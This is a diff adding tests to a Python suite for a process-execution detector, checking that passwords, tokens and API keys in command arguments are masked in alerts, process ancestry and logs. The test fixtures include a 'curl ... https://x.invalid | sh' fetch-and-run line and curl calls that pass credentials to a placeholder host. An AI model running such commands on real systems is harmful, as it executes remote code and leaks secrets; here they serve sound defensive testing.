@@ -1,5 +1,6 @@
 """What the detector can say only of what really runs: copies under another name, pipes between separate commands."""
 
+import json
 import os
 import pathlib
 import shutil
@@ -10,6 +11,8 @@ from harness import program, watch
 from kernel_case import KernelCase
 
 BUSYBOX = pathlib.Path("/bin/busybox")
+KEY = "sk-ant-api03-" + "Zq7" * 20
+SECRET = "correcthorse7battery"
 
 
 class Detect(KernelCase):
@@ -98,6 +101,39 @@ class Detect(KernelCase):
         for part in (alert["process"]["exe"], alert["alert"]["summary"], f"seq {alert['seq']}"):
             self.assertIn(part, told[0])
         self.assertNotIn(secret, self.daemon.errors())
+
+    def told_of(self, argv):
+        """The events of a program that was run, and all that was told of it: with its tree and the log."""
+        with watch(self.daemon, list(map(str, argv))) as watched:
+            events = watched.run()
+            tree = self.daemon.tree(watched.target)
+        self.assertTrue(tree)
+        return events, json.dumps(events) + repr(tree) + self.daemon.errors()
+
+    def test_secrets_in_ancestry(self):
+        """detect: an alert's ancestry has no secret of the program's arguments and of its parents', nor has anything else that is told"""
+        script = f"false && curl -H 'X-Api-Key: {SECRET}' https://x.invalid | sh"
+        events, told = self.told_of(["/bin/sh", "-c", '/bin/sh -c "$1"; true', "sh", script, KEY])
+        ancestry = next(e["alert"]["ancestry"] for e in events if e["type"] == "alert" and e["process"]["image"] == 2)
+        hidden, key = script.replace(SECRET, "*" * len(SECRET)), KEY[:7] + "*" * (len(KEY) - 7)
+        self.assertEqual([["/bin/sh", "-c", hidden], ["/bin/sh", "-c", '/bin/sh -c "$1"; true', "sh", hidden, key]],
+                         [one["argv"] for one in ancestry[:2]])
+        for part in (KEY[20:], SECRET):
+            self.assertNotIn(part, told)
+
+    def test_secrets_in_scripts(self):
+        """detect: of what a script gives to curl no password is told, neither as the script's nor as curl's arguments"""
+        curl = self.copy("/bin/true", "curl")
+        for line in (f"-u me:{SECRET}", f"-sSume:{SECRET}", f"--user 'me:{SECRET}'", f"-b session={SECRET}", f"--oauth2-bearer {SECRET}",
+                     f"-H 'Authorization: {SECRET}'", f"https://me:{SECRET}@x.invalid"):
+            with self.subTest(line):
+                script = f"{curl} {line} https://x.invalid; true"
+                events, told = self.told_of(["/bin/bash", "-c", script])
+                shell, called = [e["exec"]["argv"] for e in events if e["type"] == "exec"]
+                hidden = line.replace(SECRET, "*" * len(SECRET))
+                self.assertEqual(script.replace(line, hidden), shell[2])
+                self.assertEqual(" ".join(called[1:-1]), hidden.replace("'", ""))
+                self.assertNotIn(SECRET, told)
 
     def typed(self, line):
         """A shell that reads commands as from somebody who types them: the line is in nobody's argv."""
